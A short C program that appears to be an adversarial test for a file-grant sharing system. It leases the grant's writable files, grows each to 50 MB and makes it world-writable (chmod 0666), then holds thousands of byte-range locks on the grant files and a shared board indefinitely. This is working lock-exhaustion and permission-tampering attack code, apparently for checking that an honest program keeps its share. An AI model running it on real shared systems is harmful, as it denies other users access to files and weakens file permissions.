/* B: whatever of the grant's files can be opened for writing is leased, grown and made another's to write, and what can
 * be read of all grants on the card has thousands of locks, for ever. It runs beside an honest program, which is to
 * have its share all the same. */
#include "attack.h"

#include <dirent.h>
#include <sys/stat.h>

/* A lease is had only before anybody else has the file open. */
static void keep(const char *path)
{
    struct stat before;
    int file = open(path, O_RDWR | O_CLOEXEC);
    fcntl(file, F_SETLEASE, F_WRLCK);
    if (fstat(file, &before) == 0 && before.st_size < 50 << 20 && ftruncate(file, 50 << 20) == 0)
        fchmod(file, 0666);
}

static void lock_bytes(const char *path)
{
    int file = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    for (int at = 16000; at >= 0; at -= 2) {
        struct flock one = {.l_type = F_RDLCK, .l_whence = SEEK_SET, .l_start = at, .l_len = 1};
        fcntl(file, F_OFD_SETLK, &one);
    }
}

static void each_of(const char *directory, void (*what)(const char *path))
{
    char path[8300];
    DIR *files = opendir(directory);
    must(files == NULL, directory);
    for (struct dirent *entry = readdir(files); entry != NULL; entry = readdir(files)) {
        snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
        if (entry->d_type == DT_REG && strcmp(entry->d_name, "grant") != 0)
            what(path);
    }
    closedir(files);
}

int main(void)
{
    char board[8300];
    snprintf(board, sizeof board, "%s/board.0", grant_directory());
    signal(SIGIO, SIG_IGN); /* somebody waits for the end of a lease */
    each_of(grant_directory(), keep);
    each_of(grant_directory(), lock_bytes);
    each_of(board, lock_bytes);
    for (;;)
        pause();
}
